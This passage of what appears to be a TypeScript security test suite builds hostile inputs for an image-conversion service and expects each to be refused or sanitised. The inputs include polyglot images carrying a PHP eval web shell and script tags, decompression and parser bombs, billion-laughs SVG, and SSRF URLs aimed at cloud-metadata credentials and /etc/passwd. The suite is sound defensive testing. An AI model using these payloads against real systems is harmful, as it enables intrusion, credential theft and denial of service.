    mustNotSurvive: ["<script>"],
  });
  ok({
    name: "jpeg-trailing-garbage",
    group: "polyglot",
    why: "A valid JPEG with 1 KB of random bytes after EOI.",
    ...file(concat(jpeg, randomBytes(1024, 17)), "image/jpeg", "jpg"),
    expect: { status: 200, originalFormat: "jpeg" },
  });
  ok({
    name: "gif-comment-html",
    group: "polyglot",
    why: "A valid 1x1 GIF whose comment extension is an HTML page: comments are skipped.",
    ...file(concat(gifScreen(1, 1), gifComment("<html><script>alert(1)</script></html>"), gifOnePixelFrame(0, 0, 1, 1), GIF_TRAILER), "image/gif", "gif"),
    expect: { status: 200, originalFormat: "gif" },
    mustNotSurvive: ["<script>"],
  });
  ok({
    name: "png-text-chunk-php",
    group: "polyglot",
    why: "A valid PNG with a tEXt chunk holding PHP before IDAT: ancillary chunks are skipped.",
    ...file(concat(png.subarray(0, 33), pngChunk("tEXt", ascii("Comment\0<?php eval($_POST['x']); ?>")), png.subarray(33)), "image/png", "png"),
    expect: { status: 200, originalFormat: "png" },
    mustNotSurvive: ["<?php"],
  });

  // --- bombs and impossible sizes ------------------------------------------------------------
  const header = (name: string, why: string, bytes: Uint8Array, format: InputFormat, expect: HostileCase["expect"]) =>
    bad({ name, group: "bomb", why, ...file(bytes, MIME[format], EXT[format]), expect });
  header("png-header-50000x50000", "A PNG header claiming 50000x50000 (2.5 G pixels) in 33 bytes.", pngHeaderOnly(50_000, 50_000), "png", TOO_LARGE);
  header("png-header-65535x65535", "A PNG header claiming 65535x65535 in front of a real tiny image's data.", concat(PNG_SIGNATURE, ihdr(65_535, 65_535), png.subarray(33)), "png", TOO_LARGE);
  header("png-header-4097x4096", "One column over the 16,777,216-pixel hard ceiling (the working limit is lower).", pngHeaderOnly(4097, 4096), "png", TOO_LARGE);
  header("png-header-0x0", "A PNG whose IHDR gives it no size.", concat(PNG_SIGNATURE, ihdr(0, 0), png.subarray(33)), "png", INVALID);
  header("png-header-width-2pow31", "Width 2^31: beyond what PNG allows (signed 31-bit).", pngHeaderOnly(0x8000_0000, 1), "png", INVALID);
  header("gif-screen-65535x65535", "A GIF logical screen of 65535x65535 with a 1x1 frame: 4.3 G pixels announced in 40 bytes.", concat(gifScreen(65_535, 65_535), gifOnePixelFrame(0, 0, 1, 1), GIF_TRAILER), "gif", TOO_LARGE);
  header("webp-vp8x-16384x16384", "A WebP VP8X canvas of 16384x16384 (the 24-bit fields allow that) with no image data.", riffWebp(riffChunk("VP8X", concat(new Uint8Array([0, 0, 0, 0]), u24le(16383), u24le(16383)))), "webp", TOO_LARGE);
  header(
    "webp-vp8-16383x16383",
    "A lossy WebP whose VP8 frame header claims 16383x16383.",
    riffWebp(riffChunk("VP8 ", concat(new Uint8Array([0x50, 0x01, 0x00, 0x9d, 0x01, 0x2a]), u16le(16383), u16le(16383), randomBytes(32, 19)))),
    "webp",
    TOO_LARGE,
  );
  header("jpeg-sof-65500x65500", "Our encoder's JPEG with its SOF rewritten to 65500x65500.", jpegWithFrameSize(jpeg, 65_500, 65_500), "jpeg", TOO_LARGE);
  header("jpeg-sof-0x0", "A JPEG whose SOF gives height 0 (a DNL marker we never accept) and width 0.", jpegWithFrameSize(jpeg, 0, 0), "jpeg", INVALID);
  header("bmp-50000x50000", "A BMP header claiming 50000x50000 at 24 bits and no pixels.", bmpHeader({ width: 50_000, height: 50_000 }), "bmp", TOO_LARGE);
  header(
    "tiff-100000x100000",
    "A TIFF whose IFD claims 100000x100000 over a 4x4 strip.",
    tiff([{ entries: rawRgbEntries(4, 4).map(([tag, type, values]) => (tag === 256 || tag === 257 ? [tag, 4, [100_000]] : [tag, type, values]) as TiffEntry) }], new Uint8Array(48)),
    "tiff",
    TOO_LARGE,
  );
  header("avif-ispe-65535x65535", "Our encoder's AVIF with its ispe (image size) property rewritten to 65535x65535.", withIspe(avif, 65_535, 65_535), "avif", TOO_LARGE);
  header("avif-ispe-0x0", "An AVIF whose ispe says 0x0.", withIspe(avif, 0, 0), "avif", INVALID);
  header("heic-ispe-65535x65535", "A heif-enc HEIC with its ispe rewritten to 65535x65535 (4.3 G pixels) over a 64x48 HEVC frame.", withIspe(heic, 65_535, 65_535), "heic", TOO_LARGE);
  header("heic-ispe-0x0", "A HEIC whose ispe says 0x0.", withIspe(heic, 0, 0), "heic", INVALID);
  header("heic-ispe-bogus-1x1", "A HEIC whose ispe says 1x1 while its HEVC frame is 64x48: libheif or the size check refuses it.", withIspe(heic, 1, 1), "heic", INVALID);
  header("avif-ispe-bogus-1x1", "An AVIF whose ispe says 1x1 while the AV1 frame is 48x32: the decoder's size disagrees with the header.", withIspe(avif, 1, 1), "avif", INVALID);
  header(
    "gif-1x1-screen-huge-frame",
    "A 41-byte GIF with a 1x1 screen whose first frame claims 20000x20000 (400 M pixels, 24 times the limit): the header check sees the 1x1 screen, the frame decoder is asked for 400 MB of indices.",
    concat(gifScreen(1, 1), gifOnePixelFrame(0, 0, 20_000, 20_000), GIF_TRAILER),
    "gif",
    { status: 400, code: ["image_too_large", "invalid_image"] },
  );
  {
    // 48x32 progressive JPEG from our encoder, its frame enlarged to 1024x1024 and its last scan
    // repeated 5000 times: each scan is ~20 bytes and makes libjpeg pass over every block again.
    const sos: number[] = [];
    for (let i = find(jpeg, new Uint8Array([0xff, 0xda])); i >= 0; i = find(jpeg, new Uint8Array([0xff, 0xda]), i + 2)) sos.push(i);
    const lastScan = jpeg.subarray(sos.at(-1)!, jpeg.length - 2);
    const scans: Uint8Array[] = [];
    for (let k = 0; k < 5000; k++) scans.push(lastScan);
    const bomb = concat(jpegWithFrameSize(jpeg, 1024, 1024).subarray(0, jpeg.length - 2), ...scans, new Uint8Array([0xff, 0xd9]));
    header(
      "jpeg-progressive-scan-bomb",
      `A ${bomb.length}-byte progressive JPEG (1024x1024) with 5000 scans, where real encoders write about ten: libjpeg re-walks the whole image for every scan, so decoding cost grows with the file, not with the pixels (a 20 MB file at 4096x4096 is hours of CPU). Such files are refused by scan-limiting decoders.`,
      bomb,
      "jpeg",
      { status: 400, code: ["invalid_image", "image_too_large"] },
    );
  }
  {
    // Declares 2000x2000 RGBA (16 MB of pixels) but its zlib stream holds only ten rows.
    const rows = await zlib(function* () {
      const row = new Uint8Array(1 + 1900 * 4);
      for (let k = 0; k < 10; k++) yield row;
    });
    // 1900x1900: an RGBA PNG of 4 MP is past what WebP with alpha can be written from (its
    // lossless alpha coder's memory), and this case is about the cut-off data, not the size.
    header(
      "png-idat-short",
      "A PNG declaring 1900x1900 whose zlib stream ends after ten rows: cut-off pixel data.",
      concat(PNG_SIGNATURE, ihdr(1900, 1900), pngChunk("IDAT", rows), pngChunk("IEND", new Uint8Array(0))),
      "png",
      INVALID,
    );
  }
  {
    // A 1x1 PNG whose zlib stream inflates to 16 MB of zeros: the decoder needs 5 bytes of it.
    const bomb = await zlib(function* () {
      const zeros = new Uint8Array(1 << 20);
      for (let k = 0; k < 16; k++) yield zeros;
    });
    ok({
      name: "png-zlib-inflates-past-declared-size",
      group: "bomb",
      why: `A 1x1 PNG whose ${bomb.length}-byte IDAT inflates to 16 MB: the decoder stops at the 5 bytes the header asks for, so it is a cheap valid image.`,
      ...file(concat(PNG_SIGNATURE, ihdr(1, 1), pngChunk("IDAT", bomb), pngChunk("IEND", new Uint8Array(0))), "image/png", "png"),
      expect: { status: 200, originalFormat: "png" },
      maxMs: 5000,
    });
  }

  {
    // A 64x64 RGB TIFF (12,288 bytes of samples) whose only strip is 200 MB of zeros, deflated.
    const bomb = await zlib(function* () {
      const zeros = new Uint8Array(1 << 20);
      for (let k = 0; k < 200; k++) yield zeros;
    });
    const entries = rawRgbEntries(64, 64).map(([tag, type, values]) => (tag === 259 ? [tag, type, [8]] : tag === 279 ? [tag, type, [bomb.length]] : [tag, type, values]) as TiffEntry);
    header(
      "tiff-deflate-strip-bomb",
      `A 64x64 RGB TIFF whose only Deflate strip (${bomb.length} bytes) inflates to 200 MB where the strip holds 12,288: a decoder without an output bound fills the worker's 128 MB after the charge. Its header and layout are honest, so it is refused while decoding, as soon as the strip passes its own size.`,
      tiff([{ entries }], bomb),
      "tiff",
      INVALID,
    );
  }

  {
    // CCITT Group 4: "001" (horizontal mode), then the 2560-pixel white make-up code again and
    // again, which never ends a run: utif2's fax decoder has no bound on a line's length.
    const bits = "001" + "000000011111".repeat(20_000) + "00110101";
    const strip = new Uint8Array(Math.ceil(bits.length / 8));
    for (let i = 0; i < bits.length; i++) if (bits[i] === "1") strip[i >> 3]! |= 0x80 >> (i & 7);
    const entries: TiffEntry[] = [[256, 4, [64]], [257, 4, [64]], [258, 3, [1]], [259, 3, [4]], [262, 3, [0]], [273, 4, [TAIL]], [277, 3, [1]], [278, 4, [64]], [279, 4, [strip.length]]];
    header(
      "tiff-g4-fax-endless-run",
      `A 64x64 bilevel TIFF whose CCITT Group 4 strip (${strip.length} bytes) repeats one make-up code: utif2's fax decoder spends about a minute of CPU on it (seen in Node). CCITT compressions are refused before the charge.`,
      tiff([{ entries }], strip),
      "tiff",
      UNSUPPORTED,
    );
  }

  // --- HEIC structure the header's size does not show (src/codecs/heic-structure.ts) -----------
  {
    const heicCase = (name: string, why: string, bytes: Uint8Array) =>
      bad({ name, group: "bomb", why: `${why} Refused from the file's boxes before the charge.`, ...file(bytes, MIME.heic, EXT.heic), expect: INVALID, beforeCharge: true });
    heicCase("heic-iloc-65535-extents", "A HEIC listing its one 64x64 picture as 65,535 extents of the same bytes: joining them made 2.3 GB (500, credit kept, worker +2.2 GB).", heicManyExtents(65_535));
    heicCase("heic-iloc-600-extents", "The same picture as 600 extents: it answered 200 at 130 MB against 51 MB stored once.", heicManyExtents(600));
    heicCase(
      "heic-in-band-sps-8192",
      "A 64x64 HEIC (ispe and hvcC agree) whose data repeats its parameter sets in band, the SPS saying 8192x8192: our decoder decoded the whole 8192x8192 picture (142.5 MB) before noticing the size.",
      heicInBandSps(8192),
    );
    heicCase(
      "heic-in-band-sps-16384-imir",
      "The same with a 16384x16384 SPS and an imir property, which sends the file to libheif: PNG, JPEG and TIFF answered 200 with a 268 MP picture (1.2 GB peak, 1 credit).",
      heicInBandSps(16_384, true),
    );
    heicCase("heic-grid-tile-in-band-sps-8192", "A 2x2 grid of 64x64 tiles, the last tile's data carrying an 8192x8192 SPS in band.", heicGrid(2, 2, 3));
    heicCase("heic-grid-58x58-tiles", "A 3712x3712 grid of 3,364 64x64 tiles sharing one tile's bytes (within the pixel limit): a 3840x3840 grid of 3,600 took 10 to 11 s a call, one decoder run per tile. Grids may have at most 256 tiles.", heicGrid(58, 58));
  }

  // --- sides a target cannot store (limits.ts TARGET_MAX_SIDE), refused from the header -------
  {
    const wide = (name: string, why: string, bytes: Uint8Array, format: InputFormat, target: ImageFormat) =>
      bad({ name, group: "bomb", why, ...file(bytes, MIME[format], EXT[format]), expect: TOO_LARGE, target, beforeCharge: true });
    const tiffWide = tiff([{ entries: rawRgbEntries(65_501, 1) }], new Uint8Array(65_501 * 3).fill(128));
    const bmpWide = concat(bmpHeader({ width: 65_501, height: 1, fileSize: 54 + 196_504 }), new Uint8Array(196_504).fill(64));
    const gifWide = await encodeImage(sourceImage(65_501, 2), "gif");
    const why = (what: string, target: string, side: number) =>
      `${what} (${side} px wide, a few hundred KB, far under every pixel limit) to ${target}: libjpeg writes at most 65,500 px a side, so the encoder failed after the charge (500, credit kept). The target's side limit is checked from the header before the charge.`;
    wide("gif-65501x2-to-tiff", why("A 65501x2 GIF", "TIFF", 65_501), gifWide, "gif", "tiff");
    wide("bmp-65501x1-to-tiff", why("A 65501x1 BMP", "TIFF", 65_501), bmpWide, "bmp", "tiff");
    wide("tiff-65501x1-to-tiff", why("A 65501x1 uncompressed TIFF", "TIFF", 65_501), tiffWide, "tiff", "tiff");
    wide("bmp-65501x1-to-jpeg", why("A 65501x1 BMP", "JPEG", 65_501), bmpWide, "bmp", "jpeg");
    wide(
      "jpeg-32768x64-to-avif",
      "A 32768x64 JPEG to AVIF (2.1 MP: a grid AVIF): AV1 codes sides up to 65,536, but libheif refuses an AVIF side of 32,768 or more and libavif (Chromium's reader) one over 32,768, so the file would not open. Refused from the header, before the charge.",
      await encodeImage(sourceImage(32_768, 64), "jpeg"),
      "jpeg",
      "avif",
    );
    wide(
      "png-16384x1-to-webp",
      "A 16384x1 PNG to WebP, which stores 14 bits a side (16,383): refused from the header, before the charge (it was refused after it, and refunded).",
      await encodeImage(sourceImage(16_384, 2), "png"),
      "png",
      "webp",
    );
  }

  // --- malformed headers ---------------------------------------------------------------------
  const malformed = (name: string, why: string, bytes: Uint8Array, format: ImageFormat, expect: HostileCase["expect"] = INVALID) =>
    bad({ name, group: "malformed-header", why, ...file(bytes, MIME[format], EXT[format]), expect });
  malformed("bmp-negative-width", "A BMP with width -48.", patched(bmp, 18, i32le(-48)), "bmp");
  malformed("bmp-zero-width", "A BMP with width 0.", patched(bmp, 18, i32le(0)), "bmp");
  malformed("bmp-height-int-min", "A BMP with height -2^31, whose absolute value does not fit.", patched(bmp, 22, i32le(-0x8000_0000)), "bmp");
  malformed("bmp-bitcount-7", "A BMP with 7 bits per pixel.", patched(bmp, 28, u16le(7)), "bmp");
  malformed(
    "bmp-16-bit-mask-ffffffff",
    "A 70-byte 1x1 16-bit BI_BITFIELDS BMP whose red mask is 0xFFFFFFFF: a mask-width loop bounded only by the mask's bits never ends (a JavaScript shift count is taken mod 32), freezing the isolate. The mask does not fit a 16-bit pixel, so the header is refused.",
    concat(bmpHeader({ width: 1, height: 1, bitCount: 16, compression: 3, pixelOffset: 66, fileSize: 70 }), u32le(0xffff_ffff), u32le(0x07e0), u32le(0x001f), new Uint8Array(4)),
    "bmp",
  );
  malformed(
    "bmp-rle8-runs-off-end",
    "An 8-bit RLE BMP whose stream ends without an end-of-bitmap code.",
    concat(bmpHeader({ width: 16, height: 16, bitCount: 8, compression: 1, pixelOffset: 54 + 1024 }), new Uint8Array(1024), new Uint8Array([4, 1, 4, 2, 4, 3])),
    "bmp",
  );
  {
    const looped = tiff([{ entries: rawRgbEntries(4, 4), next: 8 }], new Uint8Array(48).fill(200));
    malformed("tiff-ifd-self-loop", "An uncompressed TIFF whose next-IFD pointer points at itself.", looped, "tiff");
  }
  malformed(
    "tiff-subifd-self-loop",
    "An uncompressed TIFF whose SubIFDs tag (330) points back at its own IFD: endless recursion in a reader that follows it.",
    tiff([{ entries: [...rawRgbEntries(4, 4), [330, 4, [ifdRef(0)]]] }], new Uint8Array(48).fill(90)),
    "tiff",
  );
  {
    // IFD0 (a valid 4x4 image) lists IFD1 sixteen times as a SubIFD, IFD1 lists IFD2 sixteen
    // times, and so on five levels down: 16^5 = 1,048,576 directory parses from ~600 bytes.
    const fanout = 16;
    const depth = 5;
    const ifds: { entries: TiffEntry[] }[] = [{ entries: [...rawRgbEntries(4, 4), [330, 4, Array<number>(fanout).fill(ifdRef(1))]] }];
    for (let level = 1; level < depth; level++) ifds.push({ entries: [[330, 4, Array<number>(fanout).fill(ifdRef(level + 1))]] });
    ifds.push({ entries: [[256, 4, [1]]] });
    const bomb = tiff(ifds, new Uint8Array(48).fill(90));
    malformed(
      "tiff-subifd-fanout-bomb",
      `A ${bomb.length}-byte uncompressed 4x4 TIFF whose SubIFD pointers fan out 16-fold over 5 levels: a reader that follows SubIFDs parses 1,048,576 directories (seconds of CPU and hundreds of MB); one more level is 16 times that. Only IFD0 is ever used, and a directory graph that revisits an IFD is as corrupt as a looping IFD chain.`,
      bomb,
      "tiff",
    );
  }
  malformed("tiff-ifd-offset-outside", "A TIFF whose first IFD offset points 4 GB past the file.", concat(ascii("II*\0"), u32le(0xffff_fff0), new Uint8Array(16)), "tiff");
  malformed("tiff-entry-count-65535", "A TIFF whose IFD claims 65535 entries in a 40-byte file.", concat(ascii("II*\0"), u32le(8), u16le(65_535), new Uint8Array(30)), "tiff");
  {
    const entries = rawRgbEntries(4, 4).map(([tag, type, values]) => (tag === 273 ? [tag, 4, [0x7fff_0000]] : [tag, type, values]) as TiffEntry);
    malformed("tiff-strip-offset-outside", "An uncompressed TIFF whose only strip lies 2 GB past the end of the file.", tiff([{ entries }], new Uint8Array(48)), "tiff");
  }
  {
    // A JPEG-in-TIFF (our own layout) whose strip offset points past the file.
    const t = valid.tiff.slice();
    const v = new DataView(t.buffer);
    const count = v.getUint16(8, true);
    for (let i = 0; i < count; i++) if (v.getUint16(10 + i * 12, true) === 273) v.setUint32(10 + i * 12 + 8, t.length + 1000, true);
    malformed("tiff-jpeg-strip-outside", "Our JPEG-compressed TIFF with its strip offset moved past the end of the file.", t, "tiff");
  }
  malformed("gif-no-image", "A GIF screen followed directly by the trailer: no frame at all.", concat(gifScreen(8, 8), GIF_TRAILER), "gif");
  malformed(
    "gif-lzw-code-size-12",
    "A GIF frame whose LZW minimum code size is 12 (at most 11 is valid).",
    concat(gifScreen(1, 1), new Uint8Array([0x2c]), u16le(0), u16le(0), u16le(1), u16le(1), new Uint8Array([0, 12, 2, 0x44, 0x01, 0]), GIF_TRAILER),
    "gif",
  );
  {
    // An animated WebP whose first frame sits outside its canvas.
    const still = webpChunks(webp).filter(([fourcc]) => fourcc === "VP8 " || fourcc === "VP8L" || fourcc === "ALPH");
    const frameHeader = concat(u24le(100), u24le(100), u24le(47), u24le(31), u24le(100), new Uint8Array([0]));
    const anim = riffWebp(
      riffChunk("VP8X", concat(new Uint8Array([0x02, 0, 0, 0]), u24le(47), u24le(31))),
      riffChunk("ANIM", new Uint8Array(6)),
      riffChunk("ANMF", concat(frameHeader, ...still.map(([fourcc, payload]) => riffChunk(fourcc, payload)))),
    );
    malformed("webp-anmf-outside-canvas", "An animated WebP whose first frame is placed at (200, 200) on a 48x32 canvas.", anim, "webp");
  }
  malformed("webp-chunk-size-4gb", "A WebP whose first chunk claims 4 GB.", patched(webp, 16, u32le(0xffff_fff0)), "webp");
  {
    // WebP lossless, hand-built (vp8l-streams.ts): the whole stream decodes; cut, or with a copy
    // before the first pixel, or an incomplete prefix code, it must not.
    const stripes = vp8lStripes(64, 64);
    ok({ name: "webp-vp8l-hand-built", group: "truncated", why: "A 64x64 lossless WebP written bit by bit: the control for the damaged ones below.", ...file(riffWebp(riffChunk("VP8L", stripes)), "image/webp", "webp"), expect: { status: 200, originalFormat: "webp" } });
    bad({ name: "webp-vp8l-pixels-cut", group: "truncated", why: "The same lossless WebP with its pixel data cut to a third.", ...file(riffWebp(riffChunk("VP8L", stripes.subarray(0, Math.floor(stripes.length / 3)))), "image/webp", "webp"), expect: INVALID });
    malformed("webp-vp8l-copy-before-start", "A lossless WebP whose first pixel is a copy of the pixel above it.", riffWebp(riffChunk("VP8L", vp8lCopyBeforeStart(64, 64))), "webp");
    malformed("webp-vp8l-incomplete-code", "A lossless WebP whose green code leaves half its bit patterns without a symbol.", riffWebp(riffChunk("VP8L", vp8lIncompleteCode(64, 64))), "webp");
    malformed(
      "webp-vp8l-80mb-of-codes",
      "A 512x512 lossless WebP whose entropy image names 16,384 groups of full prefix codes (64 MB of decoding tables): refused as too large before they are built.",
      riffWebp(riffChunk("VP8L", vp8lManyGroups())),
      "webp",
      TOO_LARGE,
    );
    // A lossy WebP with alpha: its ALPH chunk's reserved bits set, or its stream cut short.
    const cutOut = sourceImage();
    for (let i = 3; i < cutOut.data.length; i += 8) cutOut.data[i] = 0;
    const chunks = webpChunks(await encodeImage(cutOut, "webp"));
    const withAlph = (alph: Uint8Array) => riffWebp(...chunks.map(([fourcc, payload]) => riffChunk(fourcc, fourcc === "ALPH" ? alph : payload)));
    const alph = chunks.find(([fourcc]) => fourcc === "ALPH")![1];
    malformed("webp-alph-reserved-bits", "A lossy WebP with alpha whose ALPH header sets its two reserved bits.", withAlph(concat(new Uint8Array([alph[0]! | 0xc0]), alph.subarray(1))), "webp");
    malformed("webp-alph-stream-cut", "A lossy WebP with alpha whose ALPH chunk keeps only its first 3 bytes.", withAlph(alph.subarray(0, 3)), "webp");
  }
  malformed(
    "jpeg-sos-before-sof",
    "A JPEG with a scan (SOS) before any frame header.",
    concat(new Uint8Array([0xff, 0xd8]), jpegSegment(0xda, new Uint8Array([1, 1, 0, 0, 63, 0])), new Uint8Array([0x00, 0xff, 0xd9])),
    "jpeg",
  );
  malformed("jpeg-segment-length-0", "A JPEG whose first segment has length 0 (at least 2 is possible).", concat(new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x00]), jpeg.subarray(2)), "jpeg");

  // --- deep structures -----------------------------------------------------------------------
  {
    const frames = deepGif(20_000);
    ok({
      name: "gif-20000-frames",
      group: "deep",
      why: `An animated GIF of 20000 tiny frames (${frames.length} bytes): only the first frame is decoded (animation is never kept), so it stays cheap.`,
      ...file(frames, "image/gif", "gif"),
      expect: { status: 200, originalFormat: "gif" },
      maxMs: 5000,
    });
  }
  {
    const comments: Uint8Array[] = [];
    const one = gifComment("x");
    for (let k = 0; k < 50_000; k++) comments.push(one);
    ok({
      name: "gif-50000-extensions-before-image",
      group: "deep",
      why: "50000 comment extensions before the first image descriptor: skipped one by one, linear and cheap.",
      ...file(concat(gifScreen(1, 1), ...comments, gifOnePixelFrame(0, 0, 1, 1), GIF_TRAILER), "image/gif", "gif"),
      expect: { status: 200, originalFormat: "gif" },
      maxMs: 5000,
    });
  }

  {
    // A 1x5000 JPEG-compressed TIFF with one row per strip: 5000 strips, each the same 1x1 JPEG.
    const pixel = await encodeImage({ width: 1, height: 1, data: new Uint8ClampedArray([200, 40, 40, 255]) }, "jpeg");
    const strips = 5000;
    const t = tiff(
      [
        {
          entries: [
            [256, 4, [1]],
            [257, 4, [strips]],
            [258, 3, [8, 8, 8]],
            [259, 3, [7]],
            [262, 3, [6]],
            [273, 3, Array<number>(strips).fill(TAIL)],
            [277, 3, [3]],
            [278, 4, [1]],
            [279, 3, Array<number>(strips).fill(pixel.length)],
          ],
        },
      ],
      pixel,
    );
    ok({
      name: "tiff-jpeg-5000-strips",
      group: "deep",
      why: `A ${t.length}-byte 1x5000 JPEG-compressed TIFF with one row per strip (5000 strips, all the same 1x1 JPEG): a valid file, and 5000 pixels must stay cheap however they are split. Work per strip must be small (not a fresh codec instance per strip), or a 20 MB file of strips is most of an hour of CPU.`,
      ...file(t, "image/tiff", "tiff"),
      expect: { status: 200, originalFormat: "tiff" },
      maxMs: 2000,
    });
  }

  // --- malformed base64 and data URIs --------------------------------------------------------
  const pngB64 = base64(png);
  const b64 = (name: string, why: string, image: string, expect: HostileCase["expect"]) => bad({ name, group: "base64", why, ...text(image), expect });
  b64("base64-bad-characters", "Base64 with characters outside either alphabet (*, %, !) in the middle.", `${pngB64.slice(0, 40)}*%!${pngB64.slice(40)}`, INVALID);
  b64("base64-too-much-padding", "A PNG's base64 with three '=' of padding.", `${pngB64.replace(/=+$/, "")}===`, INVALID);
  b64("base64-data-after-padding", "Base64 that continues after its '=' padding.", `iVBORw0KGgo=AAAA${pngB64.slice(16)}`, INVALID);
  b64("base64-mixed-alphabets", "Standard (+/) and URL-safe (-_) characters in one payload.", `data:image/png;base64,${pngB64.slice(0, 20)}+/-_${pngB64.slice(24)}`, INVALID);
  b64("base64-dangling-character", "A payload of 4n+1 characters: the last one holds no whole byte.", `${pngB64.replace(/=+$/, "").slice(0, 401)}`, INVALID);
  b64("base64-non-ascii", "Base64 with non-ASCII letters (a Cyrillic 'А' and an emoji) inside.", `${pngB64.slice(0, 30)}А😀${pngB64.slice(30)}`, INVALID);
  b64("base64-of-text", "Valid base64 of an English sentence: decodes fine, but to text.", base64(ascii("This is not an image, it is a sentence about images.")), UNSUPPORTED);
  b64("base64-double-encoded", "A PNG base64-encoded twice: one decode gives ASCII base64, not PNG bytes.", base64(ascii(pngB64)), UNSUPPORTED);
  b64("data-uri-without-base64-flag", "A data URI with percent-encoded bytes instead of ;base64.", `data:image/png,%89PNG%0D%0A%1A%0A${encodeURIComponent("rest")}`, BAD_PARAM);
  b64("data-uri-without-comma", "A data URI with no ',' separating the payload.", `data:image/png;base64${pngB64}`, BAD_PARAM);
  b64("data-uri-bare-prefix", "Just \"data:\".", "data:", BAD_PARAM);
  b64("data-uri-malformed-type", "A data URI whose media type has no subtype.", `data:image;base64,${pngB64}`, BAD_PARAM);
  b64("data-uri-text-plain", "A valid PNG's base64 declared as text/plain.", `data:text/plain;base64,${pngB64}`, UNSUPPORTED);
  b64("data-uri-text-html", "An HTML page as a text/html data URI.", dataUri("text/html", ascii("<script>alert(1)</script>")), UNSUPPORTED);

  // --- SVG with script -----------------------------------------------------------------------
  const svg = ascii(SVG_WITH_SCRIPT);
  bad({ name: "svg-script-data-uri", group: "svg", why: "SVG with <script> and onload as data:image/svg+xml: SVG input is never accepted.", ...file(svg, "image/svg+xml", "svg"), expect: UNSUPPORTED });
  bad({ name: "svg-script-bare-base64", group: "svg", why: "The same SVG as bare base64 (no declared type): sniffed as SVG.", ...bare(svg, "svg"), expect: UNSUPPORTED });
  bad({ name: "svg-declared-png", group: "svg", why: "The same SVG declared as image/png.", ...file(svg, "image/png", "svg"), expect: UNSUPPORTED });
  bad({
    name: "svg-billion-laughs",
    group: "svg",
    why: "An SVG behind an XML prolog and a DOCTYPE of nested entities (billion laughs): refused from the first bytes, never parsed.",
    ...file(
      ascii(
        '<?xml version="1.0"?>\n<!DOCTYPE svg [\n' +
          Array.from({ length: 10 }, (_, k) => `<!ENTITY l${k} "${k === 0 ? "lol" : `&l${k - 1};`.repeat(10)}">`).join("\n") +
          '\n]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text><script>alert(1)</script></svg>',
      ),
      "image/svg+xml",
      "svg",
    ),
    expect: UNSUPPORTED,
  });
  bad({
    name: "svg-bom-comment-prolog",
    group: "svg",
    why: "SVG after a UTF-8 BOM, whitespace and a comment, with a foreignObject script.",
    ...bare(concat(new Uint8Array([0xef, 0xbb, 0xbf]), ascii(`\n  <!-- innocent -->\n<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:foreignObject><script>alert(1)</script></svg:foreignObject></svg:svg>`)), "svg"),
    expect: UNSUPPORTED,
  });

  // --- URLs (the fake public image host, test/input/fake-image-host.ts) ----------------------
  const url = (name: string, why: string, image: string, expect: HostileCase["expect"]) => bad({ name, group: "url", why, ...text(image), expect });
  url("url-plain-http", "An http:// URL: only https is fetched.", `http://${new URL(FAKE_IMAGE_ORIGIN).host}/photo.png`, FETCH_FAILED);
  url("url-loopback", "https://127.0.0.1: loopback.", "https://127.0.0.1/photo.png", FETCH_FAILED);
  url("url-loopback-decimal", "https://2130706433: loopback spelled as one decimal number.", "https://2130706433/photo.png", FETCH_FAILED);
  url("url-ipv6-loopback", "https://[::1]: IPv6 loopback.", "https://[::1]/photo.png", FETCH_FAILED);
  url("url-metadata-ip", "The cloud metadata address 169.254.169.254.", "https://169.254.169.254/latest/meta-data/iam/security-credentials/", FETCH_FAILED);
  url("url-private-10", "A private 10.0.0.0/8 address.", "https://10.0.0.1/photo.png", FETCH_FAILED);
  url("url-localhost", "https://localhost.", "https://localhost/photo.png", FETCH_FAILED);
  url("url-file-scheme", "file:///etc/passwd.", "file:///etc/passwd", FETCH_FAILED);
  url("url-javascript-scheme", "A javascript: URL.", "javascript:alert(document.cookie)", FETCH_FAILED);
  url("url-credentials", "An https URL carrying user:password@.", `https://user:secret@${new URL(FAKE_IMAGE_ORIGIN).host}/photo.png`, FETCH_FAILED);
  url("url-port-8443", "An https URL on a non-default port.", `https://${new URL(FAKE_IMAGE_ORIGIN).host}:8443/photo.png`, FETCH_FAILED);
  url("url-404", "A public URL answering 404.", fakeUrl("/missing.png"), FETCH_FAILED);
  url("url-html-content-type", "A public URL answering text/html.", fakeUrl("/page.html"), FETCH_FAILED);
  url("url-redirect-to-metadata", "A public URL redirecting to the metadata address.", fakeUrl("/redirect-to-metadata"), FETCH_FAILED);
  url("url-empty-body", "A public URL answering image/png with an empty body.", fakeUrl("/empty.png"), INVALID);
  url("url-gzip-bomb", "A public URL whose gzip body inflates past 20 MB.", fakeUrl("/gzip-bomb.png"), TOO_LARGE);
  url("url-svg-with-type", "A public URL serving SVG as image/svg+xml.", fakeUrl("/logo.svg"), UNSUPPORTED);
  url("url-html-served-as-png", "A public URL serving an HTML page with Content-Type image/png.", echoUrl(ascii("<!doctype html><script>alert(1)</script>"), "image/png"), UNSUPPORTED);
  url("url-truncated-png", "A public URL serving half of a valid PNG as image/png.", echoUrl(png.subarray(0, Math.floor(png.length / 2)), "image/png"), INVALID);
  url("url-png-header-bomb", "A public URL serving a 33-byte PNG header claiming 50000x50000.", echoUrl(pngHeaderOnly(50_000, 50_000), "image/png"), TOO_LARGE);
  url("url-svg-as-png", "A public URL serving the scripted SVG as image/png.", echoUrl(svg, "image/png"), UNSUPPORTED);

  return { hostile, accepted };
}
